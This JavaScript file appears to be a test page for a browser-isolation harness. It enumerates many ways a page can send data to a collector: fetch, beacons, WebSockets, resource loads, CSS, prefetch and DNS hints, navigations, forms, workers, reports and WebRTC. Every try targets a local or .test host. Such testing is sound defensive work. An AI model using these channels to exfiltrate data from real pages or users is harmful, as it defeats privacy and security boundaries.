// What a page that wants to tell somebody something may try, each by its name. `http`, `socket` and `host` lead to a
// collector that belongs to this try alone; `dns` is a name that nobody has. Tries named click_* run at a click.
const tries = {
  // --- requests that a script sends
  fetch: (c) => fetch(c.http + "?secret"),
  fetch_no_cors: (c) => fetch(c.http, { method: "POST", mode: "no-cors", body: "secret" }),
  fetch_keepalive: (c) => fetch(c.http, { mode: "no-cors", keepalive: true }),
  fetch_other_name: (c) => fetch(c.http.replace("127.0.0.1", "localhost"), { mode: "no-cors" }),
  fetch_raw: (c) => { const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.fetch(c.http, { mode: "no-cors" }); },
  fetch_later: (c) => fetchLater(c.http, { activateAfter: 0 }),
  xhr: (c) => { const x = new XMLHttpRequest(); x.open("POST", c.http); x.send("secret"); },
  beacon: (c) => navigator.sendBeacon(c.http, "secret"),
  websocket: (c) => new WebSocket(c.socket),
  eventsource: (c) => new EventSource(c.http),
  webtransport: (c) => new WebTransport(c.http.replace("http:", "https:")),
  dynamic_import: (c) => import(c.http),
  // --- what a page loads
  img: (c) => { new Image().src = c.http; },
  img_srcset: (c) => { new Image().srcset = c.http + " 1x"; },
  picture: (c) => add(`<picture><source srcset="${c.http}"><img></picture>`),
  input_image: (c) => add(`<input type="image" src="${c.http}">`),
  body_background: (c) => document.body.setAttribute("background", c.http),
  video: (c) => add(`<video src="${c.http}" autoplay muted></video>`),
  video_poster: (c) => add(`<video poster="${c.http}"></video>`),
  audio: (c) => { new Audio(c.http).preload = "auto"; },
  track: (c) => add(`<video src="data:video/mp4;base64,AAAA"><track default src="${c.http}"></video>`),
  script: (c) => made("script", { src: c.http }),
  module_script: (c) => made("script", { type: "module", src: c.http }),
  import_map: (c) => { made("script", { type: "importmap", textContent: JSON.stringify({ imports: { x: c.http } }) }); return import("x"); },
  svg_image: (c) => add(`<svg><image href="${c.http}"/></svg>`),
  svg_use: (c) => add(`<svg><use href="${c.http}#x"/></svg>`),
  object: (c) => add(`<object data="${c.http}"></object>`),
  embed: (c) => add(`<embed src="${c.http}">`),
  iframe: (c) => add(`<iframe src="${c.http}"></iframe>`),
  portal: (c) => add(`<portal src="${c.http}"></portal>`),
  fenced_frame: (c) => { const f = document.createElement("fencedframe"); f.config = new FencedFrameConfig(c.http); document.body.append(f); },
  // --- styles
  css_url: (c) => add(`<p style="background:url(${c.http})">x</p>`),
  css_import: (c) => made("style", { textContent: `@import url(${c.http});` }),
  css_font: (c) => { made("style", { textContent: `@font-face{font-family:f;src:url(${c.http})}` }); add(`<p style="font-family:f">x</p>`); },
  css_cursor: (c) => made("style", { textContent: `*{cursor:url(${c.http}),auto;list-style-image:url(${c.http})} body{display:list-item}` }),
  css_filter: (c) => add(`<p style="filter:url(${c.http}#x);mask:url(${c.http}#x)">x</p>`),
  font_face: (c) => new FontFace("g", `url(${c.http})`).load(),
  worklet: (c) => CSS.paintWorklet.addModule(c.http),
  audio_worklet: (c) => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(c.http),
  constructed_sheet: (c) => { const s = new CSSStyleSheet(); s.replaceSync(`p{background:url(${c.http})}`); document.adoptedStyleSheets = [s]; add("<p>x</p>"); },
  // --- links
  link_stylesheet: (c) => made("link", { rel: "stylesheet", href: c.http }),
  link_icon: (c) => made("link", { rel: "icon", href: c.http }),
  link_manifest: (c) => made("link", { rel: "manifest", href: c.http }),
  link_preload: (c) => { const l = made("link", { rel: "preload", href: c.http }); l.as = "image"; document.head.append(l); },
  link_preload_fetch: (c) => add(`<link rel="preload" as="fetch" crossorigin href="${c.http}">`),
  link_modulepreload: (c) => made("link", { rel: "modulepreload", href: c.http }),
  link_prefetch: (c) => made("link", { rel: "prefetch", href: c.http }),
  link_prerender: (c) => made("link", { rel: "prerender", href: c.http }),
  link_next: (c) => made("link", { rel: "next", href: c.http }),
  link_preconnect: (c) => made("link", { rel: "preconnect", href: c.http }),
  link_dns_prefetch: (c) => made("link", { rel: "dns-prefetch", href: c.dns }),
  link_preconnect_name: (c) => made("link", { rel: "preconnect", href: c.dns }),
  link_dictionary: (c) => made("link", { rel: "compression-dictionary", href: c.http }),
  anchor_name: (c) => add(`<a href="${c.dns}">x</a>`),
  dns_control_meta: (c) => { add(`<meta http-equiv="x-dns-prefetch-control" content="on">`); add(`<a href="${c.dns}">x</a><link rel="dns-prefetch" href="${c.dns}">`); },
  speculation_prefetch: (c) => made("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [c.http], eagerness: "immediate" }] }) }),
  speculation_prerender: (c) => made("script", { type: "speculationrules", textContent: JSON.stringify({ prerender: [{ urls: [c.http], eagerness: "immediate" }] }) }),
  // --- going elsewhere
  location_href: (c) => { location.href = c.http; },
  location_name: (c) => { location.href = c.dns; },
  location_assign: (c) => location.assign(c.http),
  location_replace: (c) => location.replace(c.http),
  navigation_api: (c) => navigation.navigate(c.http),
  open_self: (c) => open(c.http, "_self"),
  meta_refresh: (c) => add(`<meta http-equiv="refresh" content="0;url=${c.http}">`),
  link_clicked_by_script: (c) => add(`<a href="${c.http}">x</a>`).click(),
  form_get: (c) => add(`<form action="${c.http}"><input name="a" value="secret"></form>`).submit(),
  form_post: (c) => add(`<form method="post" action="${c.http}"><input name="a" value="secret"></form>`).submit(),
  form_top: (c) => add(`<form method="post" target="_top" action="${c.http}"></form>`).submit(),
  form_blank: (c) => add(`<form method="post" target="_blank" action="${c.http}"></form>`).submit(),
  form_dialog_button: (c) => { add(`<form><button formaction="${c.http}">x</button></form>`).querySelector("button").click(); },
  top_location: (c) => { top.location = c.http; },
  parent_location: (c) => { parent.location.href = c.http; },
  data_document: (c) => { location = "data:text/html," + encodeURIComponent(loud(c)); },
  blob_document: (c) => { location = URL.createObjectURL(new Blob([loud(c)], { type: "text/html" })); },
  javascript_document: (c) => { location = "javascript:" + encodeURIComponent(JSON.stringify(loud(c))); },
  document_write: (c) => { document.open(); document.write(loud(c)); document.close(); },
  // --- frames within
  srcdoc: (c) => made("iframe", { srcdoc: loud(c) }),
  srcdoc_sandboxed: (c) => { const f = document.createElement("iframe"); f.sandbox = "allow-scripts"; f.srcdoc = loud(c); document.body.append(f); },
  srcdoc_navigates: (c) => made("iframe", { srcdoc: `<script>location="${c.http}"</scr` + "ipt>" }),
  srcdoc_meta: (c) => made("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${c.http}">` }),
  srcdoc_loosened: (c) => made("iframe", { srcdoc: `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">` + loud(c) }),
  frame_of_data: (c) => made("iframe", { src: "data:text/html," + encodeURIComponent(loud(c)) }),
  frame_of_blob: (c) => made("iframe", { src: URL.createObjectURL(new Blob([loud(c)], { type: "text/html" })) }),
  frame_of_script: (c) => made("iframe", { src: "javascript:" + encodeURIComponent(JSON.stringify(loud(c))) }),
  frame_without_policy: (c) => made("iframe", { credentialless: true, srcdoc: loud(c) }),
  frame_navigated: (c) => { const f = made("iframe", {}); f.contentWindow.location = c.http; },
  // --- workers
  worker_fetch: (c) => new Worker(blob(`fetch("${c.http}",{mode:"no-cors"})`)),
  worker_socket: (c) => new Worker(blob(`new WebSocket("${c.socket}")`)),
  worker_import: (c) => new Worker(blob(`importScripts("${c.http}")`)),
  worker_module: (c) => new Worker(blob(`import "${c.http}"`), { type: "module" }),
  worker_data: (c) => new Worker(`data:text/javascript,fetch("${c.http}",{mode:"no-cors"})`),
  worker_elsewhere: (c) => new Worker(c.http),
  shared_worker: (c) => new SharedWorker(blob(`fetch("${c.http}",{mode:"no-cors"})`)),
  service_worker: (c) => navigator.serviceWorker.register("sw.js?" + encodeURIComponent(c.http)),
  // --- reports
  meta_report_uri: (c) => { add(`<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${c.http}">`); new Image().src = "x.png"; },
  attribution: (c) => { const i = new Image(); i.setAttribute("attributionsrc", c.http); i.src = "x.png"; },
  // --- features that fetch for somebody
  payment: (c) => new PaymentRequest([{ supportedMethods: c.http }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
  fed_cm: (c) => navigator.credentials.get({ identity: { providers: [{ configURL: c.http, clientId: "x" }] } }),
  joined_group: (c) => navigator.joinAdInterestGroup({ owner: new URL(c.http).origin, name: "x", biddingLogicURL: c.http, lifetimeMs: 1e6 }, 1000),
  shared_storage: (c) => sharedStorage.createWorklet(c.http),
  web_otp: (c) => navigator.registerProtocolHandler("web+leak", c.http + "?%s"),
  // --- WebRTC
  webrtc_stun: (c) => ring(window, c),
  webrtc_stun_in_frame: (c) => made("iframe", { srcdoc: `<script>(${ring})(window, ${JSON.stringify(c)})</scr` + "ipt>" }),
  webrtc_turn_tcp: (c) => ring(window, c, { urls: `turn:${c.host}?transport=tcp`, username: "secret", credential: "x" }),
  webrtc_candidate: (c) => called(c),
  webrtc_name: (c) => ring(window, c, { urls: `stun:${new URL(c.dns).host}:3478` }),
  // --- a person's click
  click_blank: (c) => button(`<a target="_blank" href="${c.http}">go</a>`),
  click_top: (c) => button(`<a target="_top" href="${c.http}">go</a>`),
  click_parent: (c) => button(`<a target="_parent" href="${c.http}">go</a>`),
  click_self: (c) => button(`<a href="${c.http}">go</a>`),
  click_ping: (c) => button(`<a href="#x" ping="${c.http}">go</a>`),
  click_download: (c) => button(`<a download="x" href="${c.http}">go</a>`),
  click_open: (c) => button("<button>go</button>").addEventListener("click", () => open(c.http)),
  click_open_blob: (c) => button("<button>go</button>").addEventListener("click", () => open(URL.createObjectURL(new Blob([loud(c)], { type: "text/html" })))),
  click_open_blank: (c) => button("<button>go</button>").addEventListener("click", () => open("about:blank").document.write(loud(c))),
  click_top_location: (c) => button("<button>go</button>").addEventListener("click", () => { top.location = c.http; }),
  click_form_blank: (c) => button(`<button form="f">go</button>`, add(`<form id="f" target="_blank" method="post" action="${c.http}"></form>`)),
  click_svg: (c) => button(`<svg width="90" height="30"><a href="${c.http}" target="_blank"><rect width="90" height="30"/></a></svg>`),
};

function add(html) {
  document.body.insertAdjacentHTML("beforeend", html);
  return document.body.lastElementChild;
}
function made(kind, properties) {
  const element = Object.assign(document.createElement(kind), properties);
  document.body.append(element);
  return element;
}
function button(html) {
  const element = add(html);
  element.id = "go";
  return element;
}
function blob(source) {
  return URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
}
function loud(c) {
  return `<body><img src="${c.http}"><script>fetch("${c.http}", { mode: "no-cors" })</scr` + "ipt>";
}
function ring(window, c, server) {
  const peer = new window.RTCPeerConnection({ iceServers: [server || { urls: "stun:" + c.host }], iceCandidatePoolSize: 1 });
  peer.createDataChannel("x");
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}
async function called(c) {
  const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
  one.createDataChannel("x");
  await one.setLocalDescription(await one.createOffer());
  await other.setRemoteDescription(one.localDescription);
  await other.setLocalDescription(await other.createAnswer());
  await one.setRemoteDescription(other.localDescription);
  const [host, port] = c.host.split(":");
  await one.addIceCandidate({ candidate: `candidate:1 1 udp 2122260223 ${host} ${port} typ host`, sdpMid: "0", sdpMLineIndex: 0 });
}
addEventListener("unhandledrejection", (event) => event.preventDefault());
addEventListener("load", async () => {
  const asked = new URLSearchParams(location.search);
  const name = asked.get("try");
  const port = asked.get("port");
  const c = {
    host: "127.0.0.1:" + port,
    http: `http://127.0.0.1:${port}/${name}`,
    socket: `ws://127.0.0.1:${port}/${name}`,
    dns: `http://${name.replaceAll("_", "-")}.${asked.get("side")}.hermit-collector.test/`,
  };
  try {
    await tries[name](c);
  } catch (refused) {
    document.title = String(refused);
  }
});
